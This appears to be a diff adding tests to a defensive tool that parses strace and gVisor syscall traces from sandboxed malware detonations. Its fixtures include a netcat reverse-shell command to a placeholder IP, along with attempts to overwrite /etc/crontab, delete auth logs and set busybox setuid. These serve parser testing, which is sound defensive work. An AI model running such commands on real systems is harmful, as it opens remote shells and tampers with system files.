@@ -64,6 +64,18 @@ describe.each(runs)('%s', (_name, run) => {
     expect(b.processes.some((p) => p.pid === b.kills[0]!.target)).toBe(true);
   });
 
+  it('names real programs: applets busybox re-ran through /proc/self/exe, forks that never exec\'d', () => {
+    for (const p of b.processes) expect(p.exe, JSON.stringify(p)).toMatch(/^\/(?!proc\/)[^\0]*$/);
+    const root = b.processes[0]!;
+    // `sh -c …`, `sleep`, `nc` are busybox applets the script's shell ran through /proc/self/exe: its program
+    for (const argv0 of ['sh', 'sleep', 'nc']) expect(b.processes.find((p) => p.argv[0] === argv0)?.exe, argv0).toBe(root.exe);
+    // the $(…) subshell forks again for the pipeline: a fork of a fork, still the script's program
+    const forkOfFork = b.processes.find((p) => p.argv[0] === '/detonate.sh' && b.processes.some((q) => q.pid === p.ppid && q.ppid !== 0));
+    expect(forkOfFork?.exe).toBe('/detonate.sh');
+    expect(b.processes.find((p) => p.argv[0] === '/tmp/x')?.exe).toBe('/tmp/x');
+    expect(b.kills[0]!.targetExe).toBe('/detonate.sh');
+  });
+
   it('keeps truncated argv bounded and flagged', () => {
     const long = b.processes.find((p) => p.argv[2]?.startsWith('true AAAA'));
     expect(long).toBeDefined();
@@ -113,6 +125,43 @@ describe('parseStrace on hostile input', () => {
     expect(events[2]).toMatchObject({ kind: 'chmod', ok: false, errno: 'EPERM' });
   });
 
+  it('keeps failed write attempts with their errno name, deduplicated and bounded, and drops the uninteresting ones', () => {
+    const lines = [
+      '7 10:00:00.0 execve("/bin/sh", ["sh"], 0x0) = 0',
+      '7 10:00:00.1 openat(AT_FDCWD</>, "/etc/crontab", O_WRONLY|O_CREAT|O_TRUNC, 0644) = -1 EROFS (Read-only file system)',
+      '7 10:00:00.2 openat(AT_FDCWD</>, "/etc/crontab", O_WRONLY|O_CREAT|O_TRUNC, 0644) = -1 EROFS (Read-only file system)',
+      '7 10:00:00.3 write(3</tmp/fill>, "\\0\\0"..., 1048576) = -1 ENOSPC (No space left on device)',
+      '7 10:00:00.4 unlink("/var/log/auth.log") = -1 EACCES (Permission denied)',
+      '7 10:00:00.5 unlink("/tmp/missing") = -1 ENOENT (No such file or directory)',
+      '7 10:00:00.6 openat(AT_FDCWD</>, "/dev/tty", O_WRONLY) = -1 ENXIO (No such device or address)',
+      '7 10:00:00.7 chmod("/bin/busybox", 04755) = -1 EPERM (Operation not permitted)',
+      '7 10:00:00.8 kill(9, SIGKILL) = 0',
+      ...Array.from({ length: 200 }, (_, i) => `7 10:00:01.${String(i).padStart(3, '0')} openat(AT_FDCWD</>, "/usr/bin/f${i}", O_WRONLY|O_CREAT, 0755) = -1 EROFS (Read-only file system)`),
+    ];
+    const b = normalise(parseStrace(lines.join('\n')).events, { start: 'all', maxFailedFiles: 10 });
+    const failed = b.files.filter((f) => f.error);
+    expect(failed.slice(0, 4)).toEqual([
+      { op: 'create', path: '/etc/crontab', pid: 7, error: 'EROFS' },
+      { op: 'write', path: '/tmp/fill', pid: 7, error: 'ENOSPC' },
+      { op: 'delete', path: '/var/log/auth.log', pid: 7, error: 'EACCES' },
+      { op: 'chmod', path: '/bin/busybox', pid: 7, mode: 0o4755, error: 'EPERM' },
+    ]);
+    expect(failed).toHaveLength(10);
+    expect(b.files.some((f) => f.path === '/tmp/missing' || f.path === '/dev/tty')).toBe(false);
+    expect(b.kills).toEqual([{ pid: 7, target: 9, signal: 'SIGKILL', ok: true }]);
+  });
+
+  it('names gVisor errnos as strace does', () => {
+    const line = (t: string, rest: string) => `I1130 15:36:43.${t}   30828 strace.go:608] [   4:   4] sh X ${rest}`;
+    const { events } = parseGvisorStrace([
+      line('100000', 'openat(AT_FDCWD /, 0x5b050f /sys/kernel/x, O_WRONLY|O_CREAT|O_TRUNC, 0o666) = 0 (0x0) errno=30 (read-only file system) (12.1µs)'),
+      line('100001', 'openat(AT_FDCWD /, 0x5b050f /tmp/y, O_WRONLY|O_CREAT|O_TRUNC, 0o666) = 0 (0x0) errno=28 (no space left on device) (12.1µs)'),
+      line('100002', 'openat(AT_FDCWD /, 0x5b050f /tmp/z, O_WRONLY|O_CREAT|O_TRUNC, 0o666) = 0 (0x0) errno=4095 (made up) (12.1µs)'),
+    ].join('\n'));
+    expect(events.map((e) => e.errno)).toEqual(['EROFS', 'ENOSPC', 'errno 4095']);
+    expect(events.every((e) => e.ok === false)).toBe(true);
+  });
+
   it('survives garbage, binary noise, unclosed quotes and enormous lines', () => {
     const junk = [
       'garbage', '\u0000\u00ff\ufffd', '12 10:00:00.0 execve("/x', '12 10:00:00.0 <... open resumed>) = 3',
@@ -132,6 +181,36 @@ describe('parseStrace on hostile input', () => {
     const b = normalise(parsed.events, { maxProcesses: 100 });
     expect(b.processes).toHaveLength(100);
     expect(b.counts.processes).toBe(3000);
+  });
+
+  it('gives a /proc/self/exe exec the caller\'s program, a fork its parent\'s (never a marker), a refused file run as a script its path', () => {
+    const b = normalise(parseStrace([
+      '20 10:00:00.0 execve("/bin/sh", ["/bin/sh", "/sample.sh"], 0x0) = 0',
+      '20 10:00:00.1 fork() = 21',
+      '21 10:00:00.2 fork() = 22',
+      '22 10:00:00.3 execve("/proc/self/exe", ["nc", "192.0.2.10", "4444", "-e", "/bin/sh"], 0x0) = 0',
+      '22 10:00:00.4 execve("/proc/self/exe", ["/bin/sh"], 0x0) = 0',
+      '21 10:00:00.5 kill(22, SIGKILL) = 0',
+      '20 10:00:00.6 execve("/tmp/x", ["/tmp/x"], 0x0) = 0',
+      '20 10:00:00.7 execve("/proc/thread-self/exe", ["x2"], 0x0) = 0',
+      // a file with no #! line: the kernel refuses it, busybox ash runs it as a script in the same process
+      '23 10:00:01.0 execve("/tmp/y", ["/tmp/y", "a"], 0x0) = -1 ENOEXEC (Exec format error)',
+      '23 10:00:01.1 execve("/proc/self/exe", ["ash", "/tmp/y", "a"], 0x0) = 0',
+      '24 10:00:01.2 execve("/tmp/z", ["/tmp/z"], 0x0) = -1 ENOEXEC (Exec format error)',
+      '24 10:00:01.3 execve("/bin/echo", ["echo", "/tmp/z"], 0x0) = 0',
+    ].join('\n')).events, { start: 'all' });
+    expect(b.processes.map((p) => [p.pid, p.ppid, p.exe, p.argv[0]])).toEqual([
+      [20, 0, '/bin/sh', '/bin/sh'],
+      [21, 20, '/bin/sh', '/bin/sh'],
+      [22, 21, '/bin/sh', 'nc'],
+      [22, 21, '/bin/sh', '/bin/sh'],
+      [20, 0, '/tmp/x', '/tmp/x'],
+      [20, 0, '/tmp/x', 'x2'],
+      [23, 0, '/tmp/y', 'ash'],
+      // argv[1] names the refused file, but as an argument of another program: no fallback
+      [24, 0, '/bin/echo', 'echo'],
+    ]);
+    expect(b.kills).toEqual([{ pid: 21, target: 22, signal: 'SIGKILL', targetExe: '/bin/sh', ok: true }]);
   });
 
   it('drops runc before the entrypoint and processes outside its tree', () => {
